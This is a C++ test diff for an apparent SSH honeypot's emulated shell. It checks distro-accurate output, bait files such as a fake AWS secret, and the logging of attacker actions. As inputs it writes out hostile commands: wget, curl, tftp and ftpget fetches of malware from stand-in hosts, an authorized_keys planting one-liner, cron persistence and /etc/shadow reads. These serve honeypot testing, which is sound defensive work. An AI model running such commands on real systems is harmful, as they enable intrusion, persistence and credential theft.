@@ -26,5 +26,212 @@ TEST(Commands, UnameAndHostnameTellThePersona) {
   EXPECT_EQ(s.Run("id"), "uid=0(root) gid=0(root) groups=0(root)\n");
 }
 
+TEST(Commands, ProcAndResourceToolsAgree) {
+  ShellSession s;
+  s.shell->Start();
+  const std::string cpus = s.Run("nproc");
+  EXPECT_EQ(s.Run("cat /proc/cpuinfo | grep \"model name\" | wc -l"), cpus);
+  EXPECT_EQ(s.Run("grep -c processor /proc/cpuinfo"), cpus);
+  const std::string mem_kb = s.Run("grep MemTotal /proc/meminfo | awk '{print $2}'");
+  EXPECT_EQ(s.Run("free | grep Mem: | awk '{print $2}'"), mem_kb);
+  EXPECT_EQ(std::stoul(s.Run("free -m | grep Mem | awk '{print $2}'")), std::stoul(mem_kb) / 1024);
+  EXPECT_EQ(s.Run("cat /proc/version").rfind("Linux version " + s.decky.persona.kernel() + " ", 0),
+            0u);
+  // /proc/uptime is the persona's uptime.
+  const long up = std::stol(s.Run("cat /proc/uptime"));
+  EXPECT_EQ(up, s.decky.persona.UptimeSeconds(s.decky.decky->WallUs() / 1000000));
+  const std::string uptime = s.Run("uptime");
+  EXPECT_NE(uptime.find(" up " + std::to_string(up / 86400) + " days, "), std::string::npos)
+      << uptime;
+  EXPECT_NE(s.Run("ps aux").find("sshd: root@pts/0"), std::string::npos);
+  EXPECT_NE(s.Run("ps -ef").find("UID          PID    PPID  C STIME TTY          TIME CMD\n"),
+            std::string::npos);
+  EXPECT_EQ(s.Run("df -h").rfind("Filesystem      Size  Used Avail Use% Mounted on\n", 0), 0u);
+}
+
+TEST(Commands, EachDistroItsOwnFiles) {
+  struct Case {
+    const char* distro;
+    const char* id_line;
+    const char* prompt;
+  } cases[] = {{"debian", "ID=debian\n", "root@h:~# "},
+               {"ubuntu22", "ID=ubuntu\n", "root@h:~# "},
+               {"rocky9", "ID=\"rocky\"\n", "[root@h ~]# "},
+               {"centos7", "ID=\"centos\"\n", "[root@h ~]# "},
+               {"alpine", "ID=alpine\n", "~ # "}};
+  for (const Case& c : cases) {
+    ShellSession s(Distro(c.distro, "h"));
+    s.shell->Start();
+    EXPECT_TRUE(s.term.screen.ends_with(c.prompt)) << c.distro << ": " << s.term.screen;
+    EXPECT_NE(s.Run("cat /etc/os-release").find(c.id_line), std::string::npos) << c.distro;
+    EXPECT_EQ(s.Run("uname -r"), s.decky.persona.kernel() + "\n") << c.distro;
+    const bool debian_like = decoy::IsDebianLike(c.distro);
+    EXPECT_EQ(s.Run("cat /etc/debian_version").find("No such file") == std::string::npos,
+              debian_like)
+        << c.distro;
+  }
+}
+
+TEST(Commands, BusyboxWording) {
+  ShellSession s(Distro("alpine", "cam-1"));
+  s.shell->Start();
+  EXPECT_EQ(s.Run("nosuch"), "-sh: nosuch: not found\n");
+  EXPECT_EQ(s.Run("echo $?"), "127\n");
+  EXPECT_EQ(s.Run("uname -a"),
+            "Linux cam-1 " + s.decky.persona.kernel() +
+                " #1-Alpine SMP PREEMPT_DYNAMIC Wed, 17 Jan 2024 09:02:48 +0000 x86_64 Linux\n");
+  EXPECT_EQ(s.Run("ps").rfind("PID   USER     TIME  COMMAND\n", 0), 0u);
+  EXPECT_EQ(s.Run("busybox echo hi"), "hi\n");
+  EXPECT_EQ(s.Run("busybox nosuch"), "nosuch: applet not found\n");
+  EXPECT_EQ(s.Run("/bin/busybox | head -1"),
+            "BusyBox v1.36.1 (2023-11-07 18:53:09 UTC) multi-call binary.\n");
+  EXPECT_TRUE(s.Run("ls -l /bin/ls").ends_with(" /bin/ls -> /bin/busybox\n"));
+  EXPECT_EQ(s.Run("/bin/cat /etc/hostname"), "cam-1\n");  // an applet link runs the applet
+  EXPECT_EQ(s.Run("wget http://198.51.100.9/m.arm7"),
+            "Connecting to 198.51.100.9 (198.51.100.9:80)\nwget: can't connect to remote host "
+            "(198.51.100.9): "
+            "Connection refused\n");
+  EXPECT_EQ(s.Run("apt install x"), "-sh: apt: not found\n");
+}
+
+TEST(Commands, ExpansionQuotingAndStatus) {
+  ShellSession s;
+  s.shell->Start();
+  EXPECT_EQ(s.Run("X=1; echo $X ${X} \"$X\" '$X' \\$X"), "1 1 1 $X $X\n");
+  EXPECT_EQ(s.Run("echo \"$(whoami)@`hostname`\""), "root@web-01\n");
+  EXPECT_EQ(s.Run("Y='a   b'; echo $Y; echo \"$Y\""), "a b\na   b\n");
+  EXPECT_EQ(s.Run("echo ${UNSET:-def} ${#HOME} $((2*(3+4)))"), "def 5 14\n");
+  EXPECT_EQ(s.Run("false && echo a || echo b; true && echo c"), "b\nc\n");
+  EXPECT_EQ(s.Run("ls /nonexist; echo $?"),
+            "ls: cannot access '/nonexist': No such file or directory\n2\n");
+  EXPECT_EQ(s.Run("ls /nonexist 2>/dev/null; echo $?"), "2\n");
+  EXPECT_EQ(s.Run("ls /nonexist 2>&1 | wc -l"), "1\n");
+  EXPECT_EQ(s.Run("echo -n a; echo -e 'b\\tc\\x41'"), "ab\tcA\n");
+  EXPECT_EQ(s.Run("printf '%s-%d\\n' x 5 y 6"), "x-5\ny-6\n");
+  EXPECT_EQ(s.Run("export Z=9; env | grep ^Z="), "Z=9\n");
+  EXPECT_EQ(s.Run("echo ~ ~/x"), "/root /root/x\n");
+  EXPECT_EQ(s.Run("cd /tmp && touch a.sh b.sh c.txt && echo *.sh"), "a.sh b.sh\n");
+}
+
+TEST(Commands, FilesThroughTheOverlay) {
+  ShellSession s;
+  s.shell->Start();
+  EXPECT_EQ(s.Run("echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f; wc -l < /tmp/f"),
+            "one\ntwo\n2\n");
+  EXPECT_EQ(s.Run("mkdir -p /tmp/a/b && cd /tmp/a/b && pwd && cd - && cd .. && pwd"),
+            "/tmp/a/b\n/root\n/\n");
+  EXPECT_EQ(s.Run("cp /tmp/f /tmp/g; mv /tmp/g /tmp/h; ls /tmp/g /tmp/h 2>&1"),
+            "ls: cannot access '/tmp/g': No such file or directory\n/tmp/h\n");
+  EXPECT_EQ(s.Run("chmod +x /tmp/h; ls -l /tmp/h | cut -c1-10"), "-rwxr-xr-x\n");
+  EXPECT_EQ(
+      s.Run(
+          "printf 'echo from script\\n' > /tmp/s.sh; chmod 755 /tmp/s.sh; /tmp/s.sh; sh /tmp/s.sh"),
+      "from script\nfrom script\n");
+  EXPECT_EQ(s.Run("rm /tmp/h; cat /tmp/h"), "cat: /tmp/h: No such file or directory\n");
+  EXPECT_EQ(s.Run("rm /tmp/a"),
+            "rm: cannot remove \xe2\x80\x98/tmp/a\xe2\x80\x99: Is a directory\n");
+  EXPECT_EQ(s.Run("echo hi | base64; echo aGkK | base64 -d"), "aGkK\nhi\n");
+  EXPECT_EQ(s.Run("head -n 1 /etc/passwd; tail -1 /etc/passwd | cut -d: -f1"),
+            "root:x:0:0:root:/root:/bin/bash\n" + s.Run("awk -F: 'NR==11 {print $1}' /etc/passwd"));
+  // The bait is there and shaped like the real thing.
+  EXPECT_NE(s.Run("ls -a ~").find(".bash_history"), std::string::npos);
+  EXPECT_NE(s.Run("cat ~/.env").find("AWS_SECRET_ACCESS_KEY="), std::string::npos);
+  EXPECT_EQ(s.Run("cat ~/.ssh/authorized_keys").rfind("ssh-ed25519 AAAA", 0), 0u);
+  // The common key-planting one-liner.
+  EXPECT_EQ(s.Run("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza x@y\" >> "
+                  ".ssh/authorized_keys && "
+                  "chmod -R go= ~/.ssh && cat .ssh/authorized_keys"),
+            "ssh-rsa AAAAB3Nza x@y\n");
+  EXPECT_EQ(s.Run("crontab -l; echo '* * * * * /tmp/x' | crontab -; crontab -l"),
+            "no crontab for root\n* * * * * /tmp/x\n");
+}
+
+TEST(Commands, PrivilegesAndUsers) {
+  ShellSession s(Distro("ubuntu22", "u1"), true, "deploy");
+  s.shell->Start();
+  EXPECT_TRUE(s.term.screen.ends_with("deploy@u1:~$ "));
+  EXPECT_EQ(s.Run("pwd"), "/home/deploy\n");
+  EXPECT_EQ(s.Run("sudo id -u; id -u"), "0\n1001\n");
+  EXPECT_EQ(s.Run("cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
+  EXPECT_NE(s.Run("sudo cat /etc/shadow").find("root:$6$"), std::string::npos);
+  EXPECT_NE(s.Run("apt install nmap").find("are you root?"), std::string::npos);
+  EXPECT_NE(
+      s.Run("sudo apt-get install nmap").find("Could not get lock /var/lib/dpkg/lock-frontend"),
+      std::string::npos);
+  EXPECT_EQ(s.Run("yum install x"), "-bash: yum: command not found\n");
+}
+
+TEST(Commands, PasswordChangesAreCredentials) {
+  ShellSession s;
+  s.shell->Start();
+  s.Run("echo 'root:Hunter2!' | chpasswd");
+  s.Run("echo -e 'n3wpass\\nn3wpass' | passwd");
+  const auto ev = s.decky.Events("password_change");
+  ASSERT_EQ(ev.size(), 2u);
+  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "principal"), "root");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "secret_printable"), "Hunter2!");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[1], "secret_printable"), "n3wpass");
+}
+
+TEST(Commands, DownloadersAsTheRealToolsFail) {
+  ShellSession s;
+  s.shell->Start();
+  const std::string w = s.Run("cd /tmp; wget http://malware.example/bot -O b");
+  EXPECT_NE(
+      w.find("Resolving malware.example (malware.example)... failed: Temporary failure in name "
+             "resolution.\n"
+             "wget: unable to resolve host address \xe2\x80\x98malware.example\xe2\x80\x99\n"),
+      std::string::npos)
+      << w;
+  EXPECT_EQ(s.Run("curl http://198.51.100.5:8080/x"),
+            "curl: (7) Failed to connect to 198.51.100.5 port 8080 after 1203 ms: Couldn't connect "
+            "to server\n");
+  EXPECT_EQ(s.Run("curl -s http://198.51.100.5/x; echo $?"), "7\n");
+  s.Run("tftp -g -r m.mips 198.51.100.7");
+  s.Run("ftpget -u a -p b 198.51.100.8 local.bin remote.bin");
+  const auto ev = s.decky.Events("file_download_attempt");
+  ASSERT_EQ(ev.size(), 5u);
+  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "output"), "b");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[0], "cwd"), "/tmp");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[3], "url"), "tftp://198.51.100.7/m.mips");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[4], "url"), "ftp://198.51.100.8/remote.bin");
+  EXPECT_EQ(decoy::testing::ParamOf(ev[4], "output"), "local.bin");
+}
+
+TEST(Commands, WhichTypeAndTheBinDirectories) {
+  ShellSession s;
+  s.shell->Start();
+  EXPECT_EQ(s.Run("which ls wget nosuch; echo $?"), "/usr/bin/ls\n/usr/bin/wget\n1\n");
+  EXPECT_EQ(s.Run("type cd"), "cd is a shell builtin\n");
+  EXPECT_EQ(s.Run("/usr/bin/id -un; /bin/whoami"), "root\nroot\n");
+  const std::string bins = s.Run("ls -1 /usr/bin");
+  for (const char* cmd : {"ls\n", "wget\n", "curl\n", "busybox\n", "uname\n"})
+    EXPECT_NE(bins.find(std::string("\n") + cmd), std::string::npos) << cmd;
+  EXPECT_EQ(bins.find("\ncd\n"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace decnet::services::shell
+
+namespace decnet::services::shell {
+namespace {
+
+// Prints a whole session for a human to read: --gtest_also_run_disabled_tests
+// --gtest_filter=*Transcript* with SHELL_DISTRO=alpine and SHELL_LINES="cmd1;;cmd2" to choose.
+TEST(Commands, DISABLED_Transcript) {
+  const char* distro = std::getenv("SHELL_DISTRO");
+  testing::ShellSession s(testing::Distro(distro ? distro : "debian"));
+  s.shell->Start();
+  std::string lines = std::getenv("SHELL_LINES") ? std::getenv("SHELL_LINES") : "ls -la";
+  std::string out = s.term.Take();
+  for (size_t at = 0; at <= lines.size();) {
+    size_t end = lines.find(";;", at);
+    if (end == std::string::npos) end = lines.size();
+    out += s.Type(lines.substr(at, end - at));
+    at = end + 2;
+  }
+  std::printf("%s\n", out.c_str());
+}
+
 }  // namespace
 }  // namespace decnet::services::shell
